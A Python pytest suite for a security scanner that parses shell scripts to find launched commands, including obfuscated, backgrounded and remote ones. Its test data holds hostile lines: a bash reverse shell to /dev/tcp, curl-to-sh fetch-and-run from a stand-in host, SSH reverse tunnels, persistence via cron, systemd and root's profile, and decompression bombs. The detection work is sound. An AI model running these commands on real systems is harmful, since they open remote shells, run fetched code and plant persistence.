"""Shell text read by its grammar: what runs, with what, in the background or elsewhere; and text that means to break it."""

import base64
import gzip
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.content import Content
from scanner.content.worker import Worker
from scanner.detectors.launchers import bash, linewise, reading, shell
from scanner.detectors.launchers.lines import Script
from scanner.detectors.launchers.shell import Command
from scanner.model import Level, Limits

MIB = 1 << 20


def read(text: str, path: bytes = b"etc/rc.local", worker: Worker | None = None) -> reading.Reading:
    data = text.encode("utf-8", "surrogateescape")
    found = reading.read(Content(path=path, data=memoryview(data), worker=worker))
    assert found is not None
    return found


def ran(text: str) -> list[tuple[int, str]]:
    return [(c.line, str(c)) for c in read(text).commands]


def one(text: str, name: str = "ssh") -> Command:
    [command] = [c for c in read(text).commands if c.name == name]
    return command


@pytest.mark.parametrize(
    ("text", "line", "command"),
    [
        ('H=gw; P=${P:-22}\nO=(-N -R "$P:a:1")\nautossh "${O[@]}" u@$H &', 3, "autossh -N -R 22:a:1 u@gw"),
        ("O=(-N)\nO+=(-R 1:a:2)\nssh ${O[*]} h", 3, "ssh -N -R 1:a:2 h"),
        ("local X=h\nreadonly Y=$X\nssh $Y", 3, "ssh h"),
        ("f() {\n  ssh h\n}", 2, "ssh h"),
        ('f() { ssh -R "$1" $2; }\n\nf 1:a:2 h', 1, "ssh -R 1:a:2 h"),
        ('run() { "$@"; }\nrun ssh h', 1, "ssh h"),
        ("f() { ssh $H; }\nH=h\nf", 1, "ssh h"),
        ("alias t='ssh -D 1 h'", 1, "ssh -D 1 h"),
        ("if a; then\n ssh h\nelse\n ssh i\nfi", 4, "ssh i"),
        ("for p in 80 81; do ssh -p $p h; done", 1, "ssh -p 80 h"),
        ("case $1 in\n start|x) ssh h ;;\n *) ssh i ;;\nesac", 3, "ssh i"),
        ("while ! ssh h; do sleep 1; done", 1, "ssh h"),
        ("(cd /x && { ssh h; })", 1, "ssh h"),
        ("x=$(y $(ssh h))", 1, "ssh h"),
        ("x=`ssh h`", 1, "ssh h"),
        ('echo "$(\n ssh h)"', 2, "ssh h"),
        ("bash <<EOF\nA=1\nssh \\$A\nEOF", 3, "ssh 1"),
        ("cat <<'EOF' | sudo bash -s\nssh h\nEOF\nx", 2, "ssh h"),
        ("bash <<-E && y\n\tssh h\n\tE", 2, "ssh h"),
        ("bash <<E &\nssh h\nE", 2, "ssh h"),
        ("x &&\n(\n ssh h\n) <<E\ny\nE", 3, "ssh h"),
        ("x && y > z <<E\nE\nssh h", 3, "ssh h"),
        ("if a; then\n ssh h\nfi <<< x", 2, "ssh h"),
        ("{ sh; } <<< 'ssh h'", 1, "ssh h"),
        ("\nbash <<E\n\nsh <<< 'ssh h'\nE", 4, "ssh h"),
        ("\n\ncat <<E | sh\necho 'ssh h' | sh\nE", 4, "ssh h"),
        ("cat > /etc/cron.d/x <<E\n# c\n* * * * * root ssh h\nE", 3, "ssh h"),
        ("tee /etc/systemd/system/x.service <<E >/dev/null\n[Service]\nExecStart=/bin/ssh h\nE", 3, "/bin/ssh h"),
        ("echo 'ssh h' >> /root/.profile", 1, "ssh h"),
        ("(crontab -l; echo '@reboot ssh h') | crontab -", 1, "ssh h"),
        ("sh -c 'x && ssh h'", 1, "ssh h"),
        ("bash -lc 'eval \"ssh h\"'", 1, "ssh h"),
        ("su - u -c 'ssh h'", 1, "ssh h"),
        ("echo c3NoIGg= | base64 --decode | bash", 1, "ssh h"),
        ('eval "$(echo c3NoIGg= | base64 -d)"', 1, "ssh h"),
        ("echo 7373682068 | xxd -r -p | sh", 1, "ssh h"),
        (f"echo {base64.b64encode(gzip.compress(b'ssh h', mtime=0)).decode()} | base64 -d | gunzip | sh", 1, "ssh h"),
        ("printf '%s %s\\n' ssh h | sh", 1, "ssh h"),
        ("echo 'h hss' | rev | sh", 1, "ssh h"),
        ("bash <(echo ssh h)", 1, "ssh h"),
        ("source <(echo ssh h)", 1, "ssh h"),
        ("$(command -v ssh) h", 1, "ssh h"),
        ("a=s; b=sh; $a$b h", 1, "ssh h"),
        ("s''s\"h\" h", 1, "ssh h"),
        ("$'\\x73sh' h", 1, "ssh h"),
        ("{ssh,-N,h}", 1, "ssh -N h"),
        ("ssh${IFS}h", 1, "ssh h"),
        ("X=xsshx; ${X:1:3} h", 1, "ssh h"),
        ("X=xsxsxh; ${X//x/} h", 1, "ssh h"),
        ("\\ssh h", 1, "ssh h"),
        ("trap 'ssh h' EXIT", 1, "ssh h"),
        ("PROMPT_COMMAND='ssh h'", 1, "ssh h"),
        ("sshpass -p x ssh h", 1, "ssh h"),
        ("torify ssh h", 1, "ssh h"),
        ("daemonize -o /x /bin/ssh h", 1, "/bin/ssh h"),
        ("runuser -u app -- ssh h", 1, "ssh h"),
        ("chpst -u app ssh h", 1, "ssh h"),
        ("s6-setuidgid app ssh h", 1, "ssh h"),
        ("tmux send-keys -t 1 'ssh h' Enter", 1, "ssh h"),
        ("find / -exec ssh h \\;", 1, "ssh h"),
        ("/lib64/ld-linux-x86-64.so.2 /usr/bin/ssh h", 1, "/usr/bin/ssh h"),
        ("at now <<< 'ssh h'", 1, "ssh h"),
        ("echo '-N h' | xargs ssh", 1, "ssh -N h"),
        ("env -S 'ssh h'", 1, "ssh h"),
    ],
)
def test_what_the_text_comes_to_is_read_on_its_line(text: str, line: int, command: str) -> None:
    assert (line, command) in ran(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo ssh h",
        "cat <<E\nssh h\nE",
        "cat > README.md <<E\nssh h\nE",
        "usage() { echo 'ssh h'; }",
        "command -v ssh",
        ": <<'E'\nssh h\nE",
        "echo 'ssh h' > /dev/null",
        "printf 'ssh h' >&2",
        "# bash <<E\n# ssh h\n# E",
    ],
)
def test_what_only_speaks_of_a_command_runs_none(text: str) -> None:
    assert "ssh" not in [c.name for c in read(text).commands]


def test_how_a_command_runs_is_said() -> None:
    command = one("export SSHPASS=x AUTOSSH_PORT=0 HARMLESS=1\ncd /srv\nA=1 nohup sshpass -e ssh h &")

    assert command.environment == (("SSHPASS", "x"), ("AUTOSSH_PORT", "0"), ("A", "1"))
    assert command.background
    assert command.through == ("nohup", "sshpass")
    assert command.folder == "/srv"


def test_what_runs_on_another_host_is_marked() -> None:
    text = "ssh -p 22 h 'curl a'\nssh h <<E\nwget b\nE\n"

    assert [(c.line, c.name, c.remote) for c in read(text).commands] == [
        (1, "ssh", False),
        (1, "curl", True),
        (2, "ssh", False),
        (3, "wget", True),
    ]


def test_what_is_written_to_a_file_is_marked() -> None:
    assert one("cd /etc/cron.d\necho '@reboot root ssh h' > x").into == "/etc/cron.d/x"
    assert one("echo 'ssh h' | sudo tee -a /root/.bashrc").into == "/root/.bashrc"


def test_an_interpreters_orders_and_sockets_are_kept() -> None:
    assert one("python3 - <<E\nimport os\nE", "python3").stdin == "import os\n"
    assert one("H=10.0.0.1\nbash -i >& /dev/tcp/$H/9 0>&1", "bash").sockets == ((">&", "/dev/tcp/10.0.0.1/9"),)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("curl -fsSL https://a.example/x | sh", "sh"),
        ("wget -qO- https://a.example/x | sudo bash -s -- --yes", "bash"),
        ("wget -O - https://a.example/x | base64 -d | sh", "sh"),
        ("curl https://a.example/x | tee /opt/x.sh | bash", "bash"),
        ("curl -fsSLo - https://a.example/x | env A=1 python3 -", "python3"),
        ("bash <(curl -s https://a.example/x)", "bash"),
        (". <(curl https://a.example/x)", "."),
        ('sh -c "$(curl -fsSL https://a.example/x)"', "sh"),
        ('eval "$(wget -qO- https://a.example/x)"', "eval"),
        ('python3 -c "$(curl https://a.example/x)"', "python3"),
        ("su -c 'curl https://a.example/x | sh' user", "sh"),
        ("curl -o /tmp/i https://a.example/x && cd / && sh /tmp/i", "sh"),
        ("cd /tmp\nwget https://a.example/x\nbash x --yes", "bash"),
        ("curl https://a.example/x > /tmp/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh", "i.sh"),
        ("cd /opt; curl -fsSLO https://a.example/x; ./x", "x"),
    ],
)
def test_what_reads_fetched_text_says_from_where(text: str, name: str) -> None:
    assert one(text, name).fetched == "https://a.example/x"


@pytest.mark.parametrize(
    "text",
    [
        "curl -o x https://a.example/x | sh",
        "curl -fsSLO https://a.example/x | sh",
        "wget https://a.example/x | sh",
        "curl https://a.example/x > x; sh y",
        "cd /a; wget https://a.example/x; cd /b; sh x",
        "A=$(curl https://a.example/x); sh -c 'echo a' | sh",
        'sh -c "echo $(curl https://a.example/x)"',
    ],
)
def test_what_is_kept_in_a_file_is_read_by_nobody(text: str) -> None:
    assert not any(c.fetched for c in read(text).commands if c.name == "sh")


def test_a_mistake_in_the_text_hides_nothing() -> None:
    text = "ssh a\nif then fi (((\nssh b\necho 'never closed\nssh c\n"

    assert {(1, "ssh a"), (3, "ssh b"), (5, "ssh c")} <= set(ran(text))


def test_a_file_is_read_once() -> None:
    content = Content(path=b"etc/rc.local", data=memoryview(b"ssh h\n"))

    assert reading.read(content) is reading.read(content)


HOSTILE: dict[str, Callable[[], str]] = {
    "pipes": lambda: "a|" * (MIB // 2),
    "parentheses": lambda: "(" * 300_000,
    "substitutions": lambda: "$(" * 300_000,
    "closed substitutions": lambda: "$(" * 300_000 + ")" * 300_000,
    "double quotes": lambda: '"' * 300_001,
    "single quotes": lambda: "'" * 300_001,
    "backquotes": lambda: "`" * 300_001,
    "quoted substitutions": lambda: '"$(' * 150_000,
    "parameters": lambda: "${a:-" * 100_000 + "}" * 100_000,
    "arrays": lambda: "a=(" * 200_000,
    "groups with files": lambda: "{ " * 50_000 + "a" + "; } >x" * 50_000,
    "here-documents": lambda: "cat <<A\n" * 100_000,
    "functions": lambda: "f0(){ a $1; }\n" + "".join(f"f{i}(){{ f{i - 1} $1; f{i - 1} 2; }}\n" for i in range(1, 300)),
    "doubling": lambda: "A=xx\n" + "A=$A$A\n" * 3_000 + "echo $A | sh\n" * 3_000,
    "exports": lambda: "".join(f"export X{i}_proxy={'y' * 200}\n" for i in range(4_000)),
    "evals": lambda: "eval " * 50_000 + "a",
    "bombs": lambda: (
        f"echo {base64.b64encode(gzip.compress(b'a b' * 3_000_000)).decode()} | base64 -d | gunzip | sh\n" * 20
    ),
}


CUT = {
    "pipes": "line by line",
    "arrays": "line by line",
    "here-documents": "20000 commands",
    "doubling": "than are read",
    "exports": "exported variables",
    "evals": "deeper than they are followed",
    "bombs": "packed script larger",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_text_is_read_in_bounded_time_and_what_is_cut_off_is_said(kind: str, worker: Worker) -> None:
    """The worker's own limit, and as much again for the lines that are read when it is hit; a free machine needs 5 s."""
    text = HOSTILE[kind]()
    started = time.perf_counter()

    found = read(text, worker=worker)

    assert time.perf_counter() - started < 2 * Limits().native_seconds
    assert all(n.level is Level.WARNING for n in found.notes)
    assert kind not in CUT or any(CUT[kind] in n.message for n in found.notes)


def test_text_that_breaks_the_worker_is_read_by_lines() -> None:
    """A grammar that cannot be run at all costs nothing but its precision."""
    worker = Worker(Limits(native_bytes=1 << 20))
    try:
        found = read("#!/bin/sh\nssh h\n" + "true && (a|b)\n" * 40_000, worker=worker)
    finally:
        worker.close()

    assert (2, "ssh h") in [(c.line, str(c)) for c in found.commands]
    assert any("line by line" in n.message for n in found.notes)


@pytest.mark.parametrize("pieces", [1, 3])
def test_small_scripts_take_milliseconds(worker: Worker, pieces: int) -> None:
    text = "#!/bin/sh\nset -e\nA=1\nif [ -f /x ]; then\n  ssh -N h &\nfi\n" * pieces
    read(text, worker=worker)
    started = time.thread_time()
    for _ in range(20):
        read(text)

    assert (time.thread_time() - started) / 20 < 0.01


SHELL_TEXT = st.text(alphabet=st.sampled_from(" \n\t'\"\\$`(){}[];&|<>#=-/.abcE%*@:!~\0é"), max_size=200)


@settings(max_examples=300, deadline=None)
@given(SHELL_TEXT)
def test_no_text_breaks_the_grammars_reader(text: str) -> None:
    lines = text.count("\n") + 1
    for command in reading._decoded(reading.commands_of(text.encode(), "script", "x", 1)).commands:
        assert command.argv
        assert command.argv[0]
        assert 1 <= command.line <= lines


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_no_bytes_break_the_grammars_reader(data: bytes) -> None:
    reading.commands_of(data, "script", "x", 1)


WORDS = st.lists(st.from_regex(r"\A[a-z][a-z0-9./-]{0,8}\Z"), min_size=1, max_size=4)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(WORDS, st.sampled_from(["\n", " && ", "; ", " | ", " &\n", " || "])), min_size=1, max_size=8))
def test_the_grammar_finds_what_the_lines_show(simple: list[tuple[list[str], str]]) -> None:
    """In plain scripts both readers see the same commands on the same lines."""
    text = "".join(" ".join(words) + sign for words, sign in simple) + "end\n"
    by_lines = shell.run((Script(text),), linewise.statements).commands
    by_grammar = shell.run((Script(text),), bash.statements(5), 5, bash.OutOfTime).commands

    assert {(c.line, c.argv) for c in by_lines} <= {(c.line, c.argv) for c in by_grammar}
